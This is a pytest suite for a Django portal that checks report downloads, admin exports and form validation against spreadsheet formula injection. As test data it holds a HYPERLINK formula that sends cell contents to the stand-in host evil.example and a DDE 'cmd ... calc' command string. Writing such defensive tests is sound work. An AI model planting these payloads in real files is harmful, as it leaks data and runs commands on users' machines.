"""Formulas never reach a spreadsheet: the service form refuses them as the import does, and
every download (each report as CSV and XLSX, the admin's export, the HSDS package) writes a
stored one so that a spreadsheet program shows it as text instead of running it."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from reports.catalogue import REPORTS
from returnee_portal.spreadsheet import neutralised
from services.models import Service
from tests.admin_pages import admin_url, form_data
from tests.factories import (
    CategoryFactory,
    OpenCallFactory,
    OrganizationFactory,
    ProjectFactory,
    ServiceFactory,
)

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B2,"Klikni")'
# Stored before the form refused them (or written by a script): every sign a spreadsheet runs.
STORED = [PAYLOAD, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", " =1+1"]


@pytest.fixture
def poisoned(own_municipality):
    """Texts that would run, in every kind of column the downloads carry."""
    category = CategoryFactory(name_sr_latn=STORED[3], name_en=STORED[3])
    organization = OrganizationFactory(name_sr_latn=STORED[1], municipality=own_municipality)
    for number, text in enumerate(STORED):
        ServiceFactory(
            slug=f"poisoned-{number}",
            municipality=own_municipality,
            organization=organization,
            categories=[category],
            name_sr_latn=text,
            name_en=text,
            address=STORED[2],
            phone="+381 20 123 456",  # a phone number is not a formula
            longitude=Decimal("-0.127758"),
            last_verified=datetime.date(2020, 1, 1),
        )
    ProjectFactory(title_sr_latn=PAYLOAD, title_en=PAYLOAD)
    OpenCallFactory(title_sr_latn=PAYLOAD, title_en=PAYLOAD)


def runnable(cells) -> list[str]:
    """The cells a spreadsheet program would run as formulas."""
    return [cell for cell in cells if isinstance(cell, str) and neutralised(cell) is not cell]


def csv_cells(content: bytes) -> list:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_runnable(content: bytes) -> list:
    """Cells of the sheet that are formulas, or text that looks like one without Excel's quote
    prefix (it would run once somebody edits the cell)."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [
        cell.value
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (runnable([cell.value]) and not cell.quotePrefix)
    ]


@pytest.mark.parametrize("slug", list(REPORTS))
def test_no_report_download_carries_a_formula(client, coordinator, poisoned, slug):
    client.force_login(coordinator)
    url = reverse("reports:detail", args=[slug])

    as_csv = client.get(url, {"language": "en", "format": "csv"}).getvalue()
    as_xlsx = client.get(url, {"language": "en", "format": "xlsx"}).getvalue()

    assert runnable(csv_cells(as_csv)) == []
    assert xlsx_runnable(as_xlsx) == []


def test_the_services_report_keeps_the_text_readable(client, coordinator, poisoned):
    client.force_login(coordinator)
    url = reverse("reports:detail", args=["services"])

    cells = csv_cells(client.get(url, {"language": "en", "format": "csv"}).getvalue())
    sheet = openpyxl.load_workbook(
        io.BytesIO(client.get(url, {"language": "en", "format": "xlsx"}).getvalue())
    ).active

    assert "'" + PAYLOAD in cells  # shown as text, with the apostrophe spreadsheets hide
    assert "+381 20 123 456" in cells
    xlsx_texts = [cell.value for row in sheet.iter_rows() for cell in row]
    assert PAYLOAD in xlsx_texts  # the same text, typed as text


@pytest.mark.parametrize("file_format", ["0", "1"])  # CSV, XLSX: their places in the admin
def test_the_admin_export_carries_no_formula(client, coordinator, poisoned, file_format):
    client.force_login(coordinator)

    response = client.post(
        reverse("admin:services_service_export"), {"format": file_format, "resource": "0"}
    )

    assert response.status_code == 200
    if file_format == "0":
        cells = csv_cells(response.content)
        assert runnable(cells) == []
        assert "'" + PAYLOAD in cells
        assert "+381 20 123 456" in cells
        assert "-0.127758" in cells
    else:
        assert xlsx_runnable(response.content) == []


def test_the_hsds_package_carries_no_formula(client, coordinator, poisoned):
    client.force_login(coordinator)

    response = client.get(reverse("reports:hsds"), {"language": "en"})

    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        tables = {
            name: csv_cells(archive.read(name))
            for name in archive.namelist()
            if name.endswith("csv")
        }
    assert {name: runnable(cells) for name, cells in tables.items() if runnable(cells)} == {}
    assert "'" + PAYLOAD in tables["services.csv"]


@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("name_sr_latn", PAYLOAD),
        ("name_de", "@SUM(A1)"),
        ("description_sr_latn", "-2+3+cmd|' /C calc'!A0"),
        ("address", "+SUM(1,2)"),
        ("phone", "=1+1"),
    ],
)
def test_the_service_form_refuses_what_the_import_refuses(client, coordinator, field, text):
    service = ServiceFactory(
        name_sr_latn="Matična služba", phone="", categories=[CategoryFactory()]
    )
    client.force_login(coordinator)
    url = admin_url(service, "change")
    data = form_data(client, url)

    response = client.post(url, {**data, field: text}, HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    errors = response.context["adminform"].form.errors[field]
    assert f"starts with “{text.strip()[0]}”" in errors[0]
    assert "spreadsheet" in errors[0]
    service.refresh_from_db()
    assert getattr(service, field) != text  # nothing saved


def test_the_service_form_accepts_phone_numbers_and_negative_coordinates(client, coordinator):
    service = ServiceFactory(name_sr_latn="Matična služba", categories=[CategoryFactory()])
    client.force_login(coordinator)
    url = admin_url(service, "change")
    data = form_data(client, url)

    response = client.post(
        url, {**data, "phone": "+381 20 123 456", "longitude": "-0.127758"}, follow=True
    )

    assert response.status_code == 200
    service.refresh_from_db()
    assert service.phone == "+381 20 123 456"
    assert service.longitude == Decimal("-0.127758")


def test_the_refusal_is_in_the_editors_language(client, coordinator):
    service = ServiceFactory(name_sr_latn="Matična služba", categories=[CategoryFactory()])
    client.force_login(coordinator)
    url = admin_url(service, "change")
    data = form_data(client, url)

    response = client.post(url, {**data, "name_sr_latn": PAYLOAD}, HTTP_ACCEPT_LANGUAGE="sr-latn")

    message = response.context["adminform"].form.errors["name_sr_latn"][0]
    assert "formul" in message and "spreadsheet" not in message
    assert Service.objects.get(pk=service.pk).name_sr_latn == "Matična služba"
